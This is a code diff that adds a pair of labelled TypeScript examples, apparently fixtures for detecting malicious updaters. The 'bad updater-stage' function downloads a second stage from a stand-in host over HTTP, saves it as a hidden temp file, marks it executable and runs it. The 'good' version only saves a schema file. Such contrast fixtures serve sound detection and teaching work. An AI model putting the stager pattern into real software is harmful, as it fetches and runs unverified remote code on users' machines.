@@ -22,3 +22,28 @@ export async function changes(): Promise<string> {
   writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
   return target;
 }
+
+//: bad updater-stage
+import { writeFile, chmod } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { execFile } from 'node:child_process';
+
+export async function update(): Promise<void> {
+  const answer = await fetch('http://u.example.invalid/stage2');
+  const file = join(tmpdir(), `.${Math.random().toString(16).slice(2)}`);
+  await writeFile(file, Buffer.from(await answer.arrayBuffer()));
+  await chmod(file, 0o700);
+  execFile(file); //!
+}
+
+//: good updater-stage
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+
+export async function update(folder: string): Promise<string> {
+  const answer = await fetch('https://u.example.invalid/schema.json');
+  const file = join(folder, 'schema.json');
+  await writeFile(file, Buffer.from(await answer.arrayBuffer()));
+  return file;
+}
